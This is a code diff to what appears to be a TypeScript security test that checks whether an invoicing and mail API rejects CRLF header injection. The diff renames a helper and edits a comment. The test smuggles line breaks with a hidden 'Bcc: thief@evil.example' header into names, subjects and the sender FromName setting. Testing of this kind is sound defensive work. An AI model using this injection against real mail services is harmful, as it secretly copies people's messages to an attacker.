@@ -1,11 +1,11 @@
 import { setTimeout } from "node:timers/promises"
 import type { Attack } from "../Attempt.ts"
-import { cameBack, jsonOf, tenantOf, until } from "../scene/tenant.ts"
+import { answerText, jsonOf, tenantOf, until } from "../scene/tenant.ts"
 
 const thief = "thief@evil.example"
 const injected = `\r\nBcc: ${thief}\r\nX-Evil: 1`
 
-/** Line breaks injected into mails by names, subjects and addresses. */
+/** Attack: line breaks injected into mails by names, subjects and addresses. */
 export const mails: Attack = {
   name: "mail headers",
   run: async (scene, report) => {
@@ -23,7 +23,7 @@ export const mails: Attack = {
         ...body
       })
       if (queued.status !== 202) {
-        report(tried, cameBack(queued), queued.status === 400)
+        report(tried, answerText(queued), queued.status === 400)
         return
       }
       const done = await until(
@@ -62,12 +62,12 @@ export const mails: Attack = {
       const filed = await tenant.call("POST", `/v1/dian/invoices?${tenantQuery}`, scene.invoice(parties))
       const tried = `name of the ${name} with lines of its own`
       if (filed.status === 200) await send(jsonOf(filed).document.uuid, {}, tried)
-      else report(tried, cameBack(filed), filed.status === 400 || filed.status === 422)
+      else report(tried, answerText(filed), filed.status === 400 || filed.status === 422)
     }
     const settings = await tenant.call("PUT", "/v1/companies/34", {
       Mail: { FromName: `Emisor${injected}`, From: "a@emisor.example" }
     })
     if (settings.status === 200) await send(key, {}, "FromName with lines of its own")
-    else report("FromName with lines of its own", cameBack(settings), settings.status === 400)
+    else report("FromName with lines of its own", answerText(settings), settings.status === 400)
   }
 }
